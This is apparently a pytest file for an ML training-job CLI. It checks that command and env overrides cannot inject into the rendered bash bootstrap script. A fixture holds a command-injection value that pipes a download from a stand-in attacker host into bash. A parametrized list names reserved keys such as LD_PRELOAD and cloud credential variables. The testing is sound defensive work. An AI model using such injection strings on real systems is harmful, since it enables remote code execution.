"""A training job's command and env: what is refused (exit 2, naming the key, before anything is declared),
and that no accepted value can change the structure of the root bootstrap either cloud renders."""

from __future__ import annotations

import shutil
import subprocess

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from infra.cli import main
from infra.training.aws.userdata import AWS_PLATFORM, render_user_data
from infra.training.bootstrap import render_script
from infra.training.job_env import env_key_problem, job_problems, value_problem
from tests.infra.training.aws.bootstrap_sim import training_spec

BASH = shutil.which("bash")
JOB_ENV_OPEN = "mlinfra_job_env=("
JOB_END = ')\nlog "starting torchrun'


@pytest.mark.parametrize(
    "key",
    ["PATH", "LD_PRELOAD", "LD_AUDIT", "BASH_ENV", "IFS", "HOME", "BASH_FUNC_x%%", "MLINFRA_RUN_ID", "AWS_PROFILE",
     "AWS_ACCESS_KEY_ID", "AWS_ENDPOINT_URL_S3", "AWS_SHARED_CREDENTIALS_FILE", "AWS_CONTAINER_CREDENTIALS_FULL_URI",
     "GOOGLE_APPLICATION_CREDENTIALS", "CLOUDSDK_CORE_PROJECT", "GCE_METADATA_HOST", "BOTO_CONFIG", "1X", "A-B"],
)  # fmt: skip
def test_keys_the_script_the_shell_or_the_cloud_cli_own_are_refused(key):
    assert env_key_problem(key) is not None


@pytest.mark.parametrize(
    "key", ["NCCL_DEBUG", "LD_LIBRARY_PATH", "PYTHONPATH", "HF_HOME", "AWS_REGION", "AWS_MAX_ATTEMPTS", "_X"]
)
def test_ordinary_job_settings_are_accepted(key):
    assert env_key_problem(key) is None


def test_markers_and_nul_bytes_are_refused_in_every_value():
    assert value_problem("command[1]", "; @@COMMAND@@") == (
        "command[1] must not contain '@@' (the bootstrap template's markers)"
    )
    assert value_problem("command[0]", "a\x00b") == "command[0] must not contain a NUL byte"
    assert job_problems(["  "], {}) == [
        "command must name the training script (and its arguments) as torchrun takes them"
    ]


INJECTION = [
    "-c",
    "mlinfra:training.job.env.NOTE=run @@COMMAND@@",
    "-c",
    "mlinfra:training.job.command[1]=; curl -s http://attacker.invalid/x | bash #",
]


@pytest.mark.parametrize("stack", ["training-demo", "training-gcp-demo"])
@pytest.mark.parametrize(
    ("overrides", "message"),
    [
        (INJECTION, "mlinfra:training.job.env: env value for 'NOTE' must not contain '@@'"),
        (["-c", "mlinfra:training.job.env.PATH=/opt/conda/envs/train/bin"], "mlinfra:training.job.env: env key 'PATH'"),
        (["-c", "mlinfra:training.job.env.AWS_CONFIG_FILE=/tmp/c"], "env key 'AWS_CONFIG_FILE' is reserved"),
        (["-c", "mlinfra:training.job.command[0]="], "mlinfra:training.job.command: command must name the training"),
    ],
)
def test_the_reproducers_exit_2_naming_the_key_before_anything_is_declared(stack, overrides, message, capsys):
    assert main(["preview", "--stack", stack, *overrides]) == 2
    captured = capsys.readouterr()
    assert message in captured.err
    assert "Traceback" not in captured.err and "aws:" not in captured.out and "gcp:" not in captured.out


def test_one_pass_a_value_is_never_scanned_for_markers_again(monkeypatch):
    import infra.training.aws.userdata as userdata

    seen: dict[str, str] = {}
    monkeypatch.setattr(userdata, "render_script", lambda platform, values: seen.update(values) or "")
    render_user_data(training_spec("p4d.24xlarge"))
    values = dict(seen)
    values["COMMAND"] = "'@@TORCHRUN@@ @@RUN_ID@@'"  # what a marker in a value would have become
    script = render_script(AWS_PLATFORM, values)
    assert "mlinfra_command=('@@TORCHRUN@@ @@RUN_ID@@')\n" in script
    with pytest.raises(ValueError, match="markers with no value: COMMAND"):
        render_script(AWS_PLATFORM, {k: v for k, v in values.items() if k != "COMMAND"})


# Any text a stack file or `-c` can give (NUL and template markers are refused at config time).
TEXT = st.text(st.characters(codec="utf-8", exclude_characters="\x00"), max_size=24).filter(lambda t: "@@" not in t)
KEYS = st.from_regex(r"\A[A-Z][A-Z0-9_]{0,10}\Z").filter(lambda k: env_key_problem(k) is None)


@pytest.mark.skipif(BASH is None, reason="bash not installed")
@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    command=st.lists(TEXT, min_size=1, max_size=4).filter(lambda c: c[0].strip() != ""),
    env=st.dictionaries(KEYS, TEXT, max_size=3),
)
def test_no_command_or_env_value_changes_the_scripts_structure(command, env):
    """The script around the two arrays is byte for byte the reference script, it parses (`bash -n`), and
    bash reads the arrays back as exactly the values given: no value can add or change a command."""
    reference = render_user_data(training_spec("p4d.24xlarge", command=("x",), env={}))
    script = render_user_data(training_spec("p4d.24xlarge", command=tuple(command), env=env))
    start, end = script.index(JOB_ENV_OPEN), script.index(JOB_END)
    assert script[:start] == reference[: reference.index(JOB_ENV_OPEN)]
    assert script[end:] == reference[reference.index(JOB_END) :]
    assert subprocess.run([BASH, "-n"], input=script.encode(), capture_output=True).returncode == 0
    probe = script[start : end + 1] + '\nprintf "%s\\0" "${mlinfra_job_env[@]}" --- "${mlinfra_command[@]}"\n'
    read_back = subprocess.run([BASH, "-c", probe], capture_output=True, check=True).stdout.decode("utf-8")
    assert read_back.split("\0")[:-1] == [f"{k}={v}" for k, v in sorted(env.items())] + ["---", *command]
